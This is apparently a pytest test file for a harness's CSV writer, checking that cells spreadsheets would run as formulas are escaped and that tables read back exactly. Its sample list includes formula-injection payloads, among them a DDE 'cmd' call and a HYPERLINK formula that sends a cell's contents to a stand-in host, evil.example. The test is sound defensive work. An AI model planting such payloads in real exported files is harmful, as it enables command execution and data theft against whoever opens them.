"""No cell of a table that the harness writes is a formula, and every table reads back exactly."""

import csv
import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harness.labels.files import read_table
from harness.labels.formulas import is_formula
from harness.labels.writing import csv_text, write_csv

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "  =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    '"=1"',
    "'=1",
    "''=1",
    "\" \t'=1",
    "\u201c=1",
    "\u202e=1",
    "\u00ad=1",
    "\u180e=1",
    "\u3164=1",
    "\uffa0=1",
    "\u115f\u1160=1",
    "\u034f=1",
    "\ufe0f=1",
    "\u2066\u200f=1",
    "\U000e0041=1",
    "\u2065=1",
    "\ue000=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\ufe661",
    "-",
    "--",
    "- item of a list",
    "+-1",
    "-1 ",
    "1\n".replace("1", "-5"),
    "-0x1F",
    "-1,5",
    "-inf",
    "=\x00",
    "@ann",
    '=HYPERLINK("http://evil.example?"&A1,"see")',
]
PLAIN = [
    "",
    "-5",
    "+1.5",
    "-.5",
    "-5.",
    "+1e-9",
    "-1E+9",
    "5",
    "a=b",
    "a\n=b",
    "x@y",
    "'",
    "'a",
    "1-2",
]
CELLS = st.one_of(
    st.text(st.characters(codec="utf-8", exclude_characters="\0")),
    st.sampled_from([text for text in FORMULAS + PLAIN if "\0" not in text]),
    st.text(st.sampled_from("'\"=+-@ \t\r\n5.e,;\uff1d\ufeff\u00a0a"), max_size=12),
)
COLUMNS = ["item", "comment", "label"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_runs_is_a_formula(text):
    assert is_formula(text)
    assert csv_text(["x"], [{"x": text}]).splitlines()[0] == "x,escaped"


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_plain_texts_stay_as_they_are(text):
    assert not is_formula(text)
    assert csv_text(["x"], [{"x": text}]) == csv_text(["x"], [{"x": text}], raw_cells=True)


@settings(deadline=None)
@given(rows=st.lists(st.fixed_dictionaries({c: CELLS for c in COLUMNS}), min_size=1, max_size=6))
def test_no_cell_is_a_formula_and_all_read_back(rows, tmp_path_factory):
    path = tmp_path_factory.mktemp("round") / "t.csv"
    write_csv(path, COLUMNS, rows)
    with open(path, encoding="utf-8", newline="") as file:
        for line in list(csv.reader(file))[1:]:
            assert not any(re.match(r"[=+\-@\t\r\n\uff1d]", c) and is_formula(c) for c in line)
    seen = [any(c.strip() or is_formula(c) for c in row.values()) for row in rows]
    written = [row for row, any_cell in zip(rows, seen, strict=True) if any_cell]
    if not written:
        return  # a table of empty rows has none
    assert [dict(row.cells) for row in read_table(path).rows] == written
    assert read_table(path).columns == tuple(COLUMNS)


def test_raw_cells_are_written_as_they_are():
    rows = [{"x": text} for text in FORMULAS]
    text = csv_text(["x"], rows, raw_cells=True)
    assert [row["x"] for row in csv.DictReader(io.StringIO(text, newline=""))] == FORMULAS


@pytest.mark.parametrize("cell", ["'=x", "'-5 degrees' was said", "''", "'@ann"])
@pytest.mark.parametrize("mark", [None, "", "yes", "[1]", '["other"]', '["escaped"]', "{}", "["])
def test_tables_of_others_keep_their_apostrophes(tmp_path, cell, mark):
    path = tmp_path / "t.csv"
    columns = ["x"] if mark is None else ["x", "escaped"]
    write_csv(path, columns, [{"x": cell, "escaped": mark}] if mark is not None else [{"x": cell}],
              raw_cells=True)  # fmt: skip
    assert read_table(path).rows[0].cells["x"] == cell


def test_a_cell_that_somebody_edited_stays_as_they_left_it(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text('x,y,escaped\nnew,\'=2,"[""x"", ""y""]"\n\'a,b,\n', encoding="utf-8")
    assert [dict(row.cells) for row in read_table(path).rows] == [
        {"x": "new", "y": "=2"},
        {"x": "'a", "y": "b"},
    ]


def test_half_of_a_surrogate_pair_is_written_as_its_escape(tmp_path):
    write_csv(tmp_path / "t.csv", ["x"], [{"x": "=\ud800"}])
    assert "'=\\ud800" in (tmp_path / "t.csv").read_text(encoding="utf-8")


def test_a_cell_of_names_that_nests_without_end_is_no_list_of_ours(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("item,escaped\n'=1," + "[" * 100_000 + "\n")
    assert read_table(path).columns == ("item", "escaped")
